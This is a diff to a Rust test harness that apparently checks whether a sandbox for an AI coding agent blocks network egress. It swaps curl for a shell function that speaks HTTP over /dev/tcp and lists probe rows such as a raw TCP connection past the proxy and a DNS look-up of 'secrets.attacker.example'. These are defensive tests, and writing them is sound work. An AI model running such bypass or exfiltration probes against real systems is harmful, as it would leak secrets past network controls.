@@ -11,19 +11,9 @@ use std::{
 
 /// What is tried, how, and what it must say.
 const ROWS: [(&str, &str, &str, &str); 12] = [
-    (
-        "ask the sidecar what may be reached",
-        "curl -sS -m 5 http://_egress.local/allowlist",
-        "api.anthropic.com",
-        "answered",
-    ),
-    ("GET https://forbidden.example/", "curl -sS -m 5 https://forbidden.example/", "\"rule\":\"host\"", "refused"),
-    (
-        "the proxy without the bottle's password",
-        "curl -sS -m 5 -x http://127.0.0.1:9099 -o /dev/null -w %{http_code} http://x.example/",
-        "407",
-        "refused",
-    ),
+    ("ask the sidecar what may be reached", "ask http://_egress.local/allowlist", "api.anthropic.com", "answered"),
+    ("GET http://forbidden.example/", "ask http://forbidden.example/", "\"rule\":\"host\"", "refused"),
+    ("the proxy without the bottle's password", "http_proxy= ask http://x.example/", " 407 ", "refused"),
     ("TCP to a raw address, past the proxy", "(echo > /dev/tcp/1.1.1.1/443) 2>&1", "unreachable", "no route"),
     (
         "DNS look-up of secrets.attacker.example",
@@ -45,6 +35,15 @@ const ROWS: [(&str, &str, &str, &str); 12] = [
     ("work in the workspace", "echo done > /workspace/file && cat /workspace/file", "done", "possible"),
 ];
 
+/// Asks the proxy, with the password that is in the agent's environment. By the shell alone: a bare machine has no client.
+const ASK: &str = r#"ask() {
+    login=${http_proxy#http://} host=${1#http://} line=
+    case $login in *@*) line="Proxy-Authorization: Basic $(printf %s "${login%@*}" | base64 -w0)"$'\r\n';; esac
+    exec 3<>/dev/tcp/egress/9099
+    printf 'GET %s HTTP/1.1\r\nHost: %s\r\n%sConnection: close\r\n\r\n' "$1" "${host%%/*}" "$line" >&3
+    timeout 5 cat <&3
+}"#;
+
 fn main() -> Result<()> {
     let home = Home::bare()?;
     let claude = home.path().join("claude");
@@ -52,7 +51,7 @@ fn main() -> Result<()> {
         ROWS.iter().map(|(_, command, ..)| format!("{{ {command}; }} 2>&1 | tr '\\n' ' '; echo\n")).collect();
     // Spelt so that the script itself is not what is found.
     let (head, tail) = REAL_TOKEN.split_at(20);
-    fs::write(&claude, format!("#!/bin/bash\nREAL='{head}''{tail}'\n{script}"))?;
+    fs::write(&claude, format!("#!/bin/bash\nREAL='{head}''{tail}'\n{ASK}\n{script}"))?;
     fs::set_permissions(&claude, fs::Permissions::from_mode(0o755))?;
     let home = home.with_env("CLAUDE_BOTTLE_CLAUDE", &claude.display().to_string());
     let run = home.run(&["--backend", "namespace", "start", "dev", "--yes", "--prompt", "x"])?;
@@ -63,8 +62,11 @@ fn main() -> Result<()> {
     writeln!(out, "{:<46}  {:<13}  VERDICT", "TRIED IN THE BOTTLE", "EXPECTED")?;
     let mut all = true;
     for ((tried, _, says, expected), said) in ROWS.iter().zip(&said) {
-        let ok = said.contains(says)
-            && (*expected != "its own alone" || said.trim().parse::<u32>().context("a number")? < 10);
+        let ok = match (*says, *expected) {
+            ("", _) => said.trim().parse::<u32>().context("a number")? < 10,
+            ("0", _) => said.trim() == "0",
+            _ => said.contains(says),
+        };
         all &= ok;
         writeln!(out, "{tried:<46}  {expected:<13}  {}", if ok { "as expected" } else { "NOT SO" })?;
     }
